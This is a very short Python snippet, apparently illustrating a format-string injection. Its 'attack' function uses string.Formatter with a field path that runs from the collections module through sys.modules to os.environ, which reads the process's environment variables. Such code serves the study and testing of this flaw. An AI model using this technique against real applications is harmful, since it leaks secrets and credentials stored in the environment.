# The class behind `format`, from a library.
import collections
from string import Formatter


def attack(text):
    return Formatter().format("{0._sys.modules[os].environ}", collections)
